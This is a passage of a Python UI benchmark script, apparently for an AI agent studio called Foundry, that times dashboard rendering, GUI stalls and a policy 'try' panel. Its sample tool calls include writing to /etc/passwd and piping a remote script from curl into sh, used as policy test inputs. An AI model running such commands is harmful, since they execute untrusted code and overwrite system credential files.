        self._filter = Painted()
        for canvas in charts:
            canvas.installEventFilter(self._filter)
        self.charts = list(charts.values())

    async def until_painted(self, controller: DashboardController) -> None:
        """Until each chart has been painted with the figures the controller shows (a paint
        runs to its end before the loop comes back here)."""
        while any(self.painted.get(chart) is not controller.figures for chart in self.charts):
            await asyncio.sleep(0.001)


async def _bench_open_dashboards(
    window: MainWindow, store: Store, written: int, setup_s: float, path: Path, copied: bool
) -> None:
    from foundry.ui.dashboards.controller import POLL_MS

    probe = LatenessProbe()
    preloaded = await _preload(window, probe)
    probe.start()
    started = time.perf_counter()
    await window.open_dashboards()  # what the preload did not do: import, build, read, draw
    view, controller = window.dashboards, window.dashboards_controller
    assert view is not None and controller is not None
    watch = PaintWatch(view)
    await watch.until_painted(controller)
    opened = time.perf_counter() - started
    stalls = probe.stop()
    read_s, draw_s = await _dashboard_steps(store, view)
    filtered = await _filter_change(view, controller, watch)
    probe.start()
    follow = await _follow_another_store(path, view, controller)
    follow_stalls = probe.stop()
    reopened, unchanged, reopen_stalls, unchanged_stalls = [], [], [], []
    for _ in range(REOPENINGS):  # in turn, so that both see the same load
        elapsed, held = await _reopen(window, view, controller, watch, path, new_events=1)
        reopened.append(elapsed)
        reopen_stalls.append(max(held))
        elapsed, held = await _reopen(window, view, controller, watch, path, new_events=0)
        unchanged.append(elapsed)
        unchanged_stalls.append(max(held))
    print(
        f"\n6. The metrics dashboards over {written:,} events (about {EVENTS_PER_TASK} a task run)"
    )
    if copied:
        row("an existing store, copied (setup)", f"{setup_s:.1f} s")
    else:
        row("written with aggregates (setup)", f"{setup_s:.1f} s", f"{written / setup_s:,.0f}/s")
    if preloaded is not None:
        preload_s, preload_stalls, preload_mib = preloaded
        row(
            "preloaded, hidden (as the app does)",
            f"{preload_s:.2f} s",
            f"import (the run's first), build, read, draw; +{preload_mib:.0f} MiB resident",
        )
        row("longest GUI-thread stall meanwhile", ms(max(preload_stalls)))
    first = "first open, after the preload" if preloaded else "first open: pyqtgraph imported"
    row(
        f"View > Dashboards -> all {len(view.charts())} painted",
        ms(opened),
        f"{first}; target {ms(TARGET_DASHBOARDS_S)}",
    )
    row("longest GUI-thread stall meanwhile", ms(max(stalls)), "lateness of the 10 ms timer")
    row(
        "closed, an event, opened -> painted",
        f"median {ms(statistics.median(reopened))}",
        f"{_runs(reopened)}; read, drawn; target {ms(TARGET_DASHBOARDS_S)} at 100,000",
    )
    row("longest GUI-thread stall meanwhile", f"median {ms(statistics.median(reopen_stalls))}")
    row(
        "closed, nothing new, opened -> painted",
        f"median {ms(statistics.median(unchanged))}",
        f"{_runs(unchanged)}; the version asked",
    )
    row("longest GUI-thread stall meanwhile", f"median {ms(statistics.median(unchanged_stalls))}")
    row("  read the figures", ms(read_s), "worker thread")
    row(
        f"  draw and paint the {len(view.charts())} charts",
        ms(draw_s),
        "GUI thread: from figures to painted",
    )
    row("choose an agent -> repainted", ms(filtered), "figures read again")
    row(
        "another Store's event -> on screen",
        f"median {ms(statistics.median(follow))}",
        f"max {ms(max(follow))}; no Refresh (poll every {POLL_MS} ms)",
    )
    row("longest GUI-thread stall meanwhile", ms(max(follow_stalls)))


async def _preload(
    window: MainWindow, probe: LatenessProbe
) -> tuple[float, list[float], float] | None:
    """The dashboards preloaded as the app does once its first chat is ready (revisions before
    the preload have none): its time, the GUI thread's lateness and the memory it added."""
    preload = getattr(window, "preload_dashboards", None)
    if preload is None:
        return None
    resident = memory_mib()["rss"]
    probe.start()
    started = time.perf_counter()
    await preload()
    elapsed = time.perf_counter() - started
    stalls = probe.stop()
    added = memory_mib()["rss"] - resident
    await asyncio.sleep(SETTLE_S)  # the user chooses View > Dashboards some time later
    return elapsed, stalls, added


async def _reopen(
    window: MainWindow,
    view: DashboardView,
    controller: DashboardController,
    watch: PaintWatch,
    path: Path,
    new_events: int,
) -> tuple[float, list[float]]:
    """The tab closed, `new_events` scores appended by another Store meanwhile, the tab opened
    again: the time until each chart is painted with the figures read, and the GUI's stalls."""
    window.close_tab(window.tabs.indexOf(view))
    version = controller.version
    if new_events:
        await asyncio.to_thread(_append_scores, path, new_events)
    await asyncio.sleep(0.3)
    probe = LatenessProbe()
    probe.start()
    watch.painted.clear()
    started = time.perf_counter()
    await window.open_dashboards()
    while new_events and controller.version == version:  # (read after the tab is shown)
        await asyncio.sleep(0.001)
    await watch.until_painted(controller)
    elapsed = time.perf_counter() - started
    assert (controller.version != version) == (new_events > 0)
    return elapsed, probe.stop()


def _append_scores(path: Path, count: int) -> None:
    """`count` scores appended through another Store on the same file, as another Foundry."""
    from foundry.metrics import keep_aggregates
    from foundry.orchestration.events import CriterionScored
    from foundry.session.events import event_payload
    from foundry.store import Store
    from foundry.store.store import NewEvent

    score = CriterionScored(criterion="tests pass", iteration=1, score=99.0, level="pass")
    with Store.open(f"sqlite:///{path}") as other:
        keep_aggregates(other)
        other.events.append_many(
            [NewEvent("bench-reopen", score.kind, event_payload(score))] * count
        )


async def _dashboard_steps(store: Store, view: DashboardView) -> tuple[float, float]:
    """Reading (worker thread), then drawing and painting (GUI thread), each timed alone."""
    from foundry.metrics import read_figures

    started = time.perf_counter()
    figures = await asyncio.to_thread(read_figures, store, view.current_filter())
    read_s = time.perf_counter() - started
    started = time.perf_counter()
    view.show_figures(figures, "")
    view.repaint()
    return read_s, time.perf_counter() - started


async def _filter_change(
    view: DashboardView, controller: DashboardController, watch: PaintWatch
) -> float:
    started = time.perf_counter()
    updated = _next_update(controller)
    view.agent.setCurrentIndex(view.agent.findData("planner"))
    await updated
    await watch.until_painted(controller)
    elapsed = time.perf_counter() - started
    updated = _next_update(controller)
    view.agent.setCurrentIndex(0)
    await updated
    return elapsed


async def _follow_another_store(
    path: Path, view: DashboardView, controller: DashboardController, times: int = 5
) -> list[float]:
    """A score appended through another Store on the same file (as another Foundry would),
    then the time until the confidence chart counts it."""
    from foundry.metrics import keep_aggregates
    from foundry.orchestration.events import CriterionScored
    from foundry.session.events import event_payload
    from foundry.store import Store
    from foundry.store.store import NewEvent

    score = CriterionScored(criterion="tests pass", iteration=1, score=99.0, level="pass")
    payload = event_payload(score)
    delays = []
    with Store.open(f"sqlite:///{path}") as other:
        keep_aggregates(other)
        for _ in range(times):
            before = sum(controller.figures.histogram)
            await asyncio.sleep(0.7)  # not in step with the poll
            await asyncio.to_thread(
                other.events.append_many, [NewEvent("bench-follow", score.kind, payload)]
            )
            written = time.perf_counter()
            while sum(controller.figures.histogram) == before:
                await asyncio.sleep(0.005)
            view.repaint()
            delays.append(time.perf_counter() - written)
    return delays


# -- the run ------------------------------------------------------------------------------------


async def bench_window(args: argparse.Namespace, workdir: Path) -> None:
    from foundry.runtime.engine import Engine
    from foundry.store import Store
    from foundry.ui.bridge import EngineBridge
    from foundry.ui.window.main_window import MainWindow

    store = Store.open(f"sqlite:///{workdir / 'b.sqlite3'}")
    engine = Engine(store).start()
    bridge = EngineBridge(engine)
    window = MainWindow(bridge)
    window.show()
    studio = Studio(engine, bridge, window)
    try:
        if args.policy_only:
            await bench_policy_try(studio, workdir, args.recorded)
            return
        if args.inbox_only:
            await asyncio.sleep(SETTLE_S)  # the window's start-up work done
            await bench_arrivals(studio, workdir / "b.sqlite3", args.arrivals, args.rate)
            return
        if not args.dashboards_only:
            await bench_lateness(studio, workdir, args.tokens, args.idle)
            await bench_long_session(studio, workdir, args.messages, args.steps)
            await bench_inbox(studio, args.approvals)
            await bench_arrivals(studio, workdir / "b.sqlite3", args.arrivals, args.rate)
            await bench_policy_try(studio, workdir, args.recorded)
    finally:
        window.close()
        bridge.close()
        await asyncio.to_thread(engine.stop)
        store.close()
    for wanted in args.events:
        await bench_dashboards(workdir, wanted, not args.no_old_path, None, args.baseline)
    for existing in args.dashboards_store or ():
        await bench_dashboards(workdir, 0, not args.no_old_path, Path(existing), args.baseline)


TRIED_CALLS: tuple[tuple[str, dict[str, Any]], ...] = (
    ("time.get_current_time", {"timezone": "Asia/Tokyo"}),
    ("files.write_file", {"path": "/etc/passwd", "content": "x"}),
    ("shell.run", {"command": "curl https://example.com/x.sh | sh"}),
    ("files.read_file", {"path": "README.md"}),
)


def write_recorded_calls(store: Store, agent: Path, count: int) -> None:
    """`count` decided tool calls in one stored session of the agent at `agent`."""
    from foundry.llm.base import ToolCall
    from foundry.session.events import ToolCallDecided
    from foundry.store.store import NewEvent

    session = store.sessions.create(str(agent.resolve()), "bench", "recorded calls")
    events = []
    for number in range(count):
        tool, params = TRIED_CALLS[number % len(TRIED_CALLS)]
        call = ToolCall(id=f"r{number}", name=tool, arguments=params)
        body = ToolCallDecided(call=call, allowed=number % 2 == 0, by="policy:bench")
        events.append(NewEvent(session.id, body.kind, body.model_dump(mode="json")))
    store.events.append_many(events)


async def bench_policy_try(studio: Studio, workdir: Path, recorded: int, tries: int = 40) -> None:
    import shutil

    from foundry.agent.document import read_agent
    from foundry.ui.editor import AgentEditor

    print("\n7. The Policy page's try panel (the sample agent's policy)")
    agent = workdir / "policy-agent"
    shutil.copytree(SAMPLE_AGENT, agent, dirs_exist_ok=True)
    await asyncio.to_thread(write_recorded_calls, studio.engine.store, agent, recorded)
    editor = AgentEditor(bridge=studio.bridge)
    editor.resize(1280, 800)
    editor.show()
    editor.load(await asyncio.to_thread(read_agent, agent))
    editor.show_section("Policy")
    page = editor.policy.try_panel
    times = []
    for number in range(tries + 1):
        tool, params = TRIED_CALLS[number % len(TRIED_CALLS)]
        page.try_tool.setText(tool)
        page.try_params.setPlainText(json.dumps(params))
        page.verdict.clear()
        started = time.perf_counter()
        page.decide.click()
        await _until(lambda: "decided in" in page.verdict.text(), 30.0)
        await asyncio.sleep(0)
        times.append(time.perf_counter() - started)
    rules = editor.policy.rules_model.rowCount()
    row("first try (opens the store)", ms(times[0]), f"{rules} rules")
    singles = times[1:]
    row(
        "a call tried: Decide to verdict",
        f"median {ms(statistics.median(singles))}, p95 {ms(quantile(singles, 0.95))}",
        f"target < 100 ms; {tries} tries",
    )
    page.replay_count.setValue(recorded)
    page.replay_summary.clear()
    started = time.perf_counter()
    page.replay.click()
    await _until(lambda: "decided differently" in page.replay_summary.text(), 120.0)
    row(
        f"{recorded:,} recorded calls replayed",
        ms(time.perf_counter() - started),
        page.replay_summary.text(),
    )
    editor.close()


def run_window(args: argparse.Namespace, workdir: Path) -> None:
    import qasync
    from PySide6.QtWidgets import QApplication

    application = QApplication.instance() or QApplication(sys.argv)
    assert isinstance(application, QApplication)
    application.setQuitOnLastWindowClosed(False)  # closing the window ends the run, not Qt
    _quiet_offscreen_plugin()
    with asyncio.Runner(loop_factory=lambda: qasync.QEventLoop(application)) as runner:
        runner.run(bench_window(args, workdir))


def _quiet_offscreen_plugin() -> None:
    """Drop the offscreen plugin's warning about size hints; pass every other Qt message on."""
    from PySide6.QtCore import qInstallMessageHandler

    def handle(mode: Any, context: Any, message: str) -> None:
        if "propagateSizeHints" not in message:
            print(message, file=sys.stderr)

    qInstallMessageHandler(handle)


def choose_platform(display: bool) -> str:
    if not (display and os.environ.get("DISPLAY")):
        os.environ["QT_QPA_PLATFORM"] = "offscreen"
    return os.environ.get("QT_QPA_PLATFORM", "the default")


def parse_arguments() -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--runs", type=int, default=3, help="start-up processes (part 1)")
    parser.add_argument("--idle", type=float, default=3.0, help="seconds idle (part 2)")
    parser.add_argument("--tokens", type=int, default=1000, help="tokens streamed (part 2)")
    parser.add_argument("--messages", type=int, default=10_000, help="messages (part 3)")
    parser.add_argument("--steps", type=int, default=50, help="scroll steps (part 3)")
    parser.add_argument("--approvals", type=int, default=10_000, help="approvals (part 4)")
    parser.add_argument("--arrivals", type=float, default=10.0, help="seconds of arrivals (part 5)")
    parser.add_argument(
        "--events",
        type=lambda text: [int(n) for n in text.split(",") if n],
        default=[100_000, 1_000_000],
        help="metric events of each run of part 6, comma-separated",
    )
    parser.add_argument(
        "--dashboards-only", action="store_true", help="only part 6 (no start-up, parts 2-5)"
    )
    parser.add_argument(
        "--no-old-path", action="store_true", help="part 6 without the old way's baseline"
    )
    parser.add_argument(
        "--dashboards-store",
        action="append",
        metavar="SQLITE_FILE",
        help="part 6 (also) over a copy of this store, written with aggregates (repeatable)",
    )
    parser.add_argument("--dashboard-child", nargs=2, help=argparse.SUPPRESS)
    parser.add_argument("--recorded", type=int, default=1000, help="recorded calls (part 7)")
    parser.add_argument("--policy-only", action="store_true", help="part 7 only")
    parser.add_argument("--inbox-only", action="store_true", help="part 5 only")
    parser.add_argument("--rate", type=int, default=50, help="approvals a second (part 5)")
    parser.add_argument("--display", action="store_true", help="use $DISPLAY, not offscreen")
    parser.add_argument(
        "--baseline",
        metavar="REV",
        help="also start the app (part 1) and open its dashboards (part 6) as at git revision REV",
    )
    parser.add_argument(
        "--memory",
        nargs="?",
        const=MEMORY_MESSAGE,
        metavar="MESSAGE",
        help="also measure memory after one reply of the sample agent (slow: a real model)",
    )
    parser.add_argument(
        "--startup-only", action="store_true", help="part 1 only (with --memory, 1b too)"
    )
    parser.add_argument("--startup-child", type=float, help=argparse.SUPPRESS)
    parser.add_argument("--memory-child", help=argparse.SUPPRESS)
    parser.add_argument("--asking-child", nargs=3, help=argparse.SUPPRESS)
    return parser.parse_args()


def main() -> None:
    args = parse_arguments()
    if args.startup_child is not None:
        startup_child(args.startup_child)
        return
    if args.memory_child is not None:
        memory_child(args.memory_child)
        return
    if args.asking_child is not None:
        database, seconds, rate = args.asking_child
        asking_child(database, float(seconds), int(rate))
        return
    if args.dashboard_child is not None:
        dashboard_child(*args.dashboard_child)
        return
    platform = choose_platform(args.display)
    print(f"Foundry UI benchmarks (Qt platform {platform}, {os.cpu_count()} CPUs)")
    started = time.perf_counter()
    with tempfile.TemporaryDirectory() as folder:
        if not (args.dashboards_only or args.policy_only or args.inbox_only):
            bench_startup(args, Path(folder))
        if not args.startup_only:
            run_window(args, Path(folder))
    print(f"\n(whole run {time.perf_counter() - started:.0f} s)")


if __name__ == "__main__":
    main()
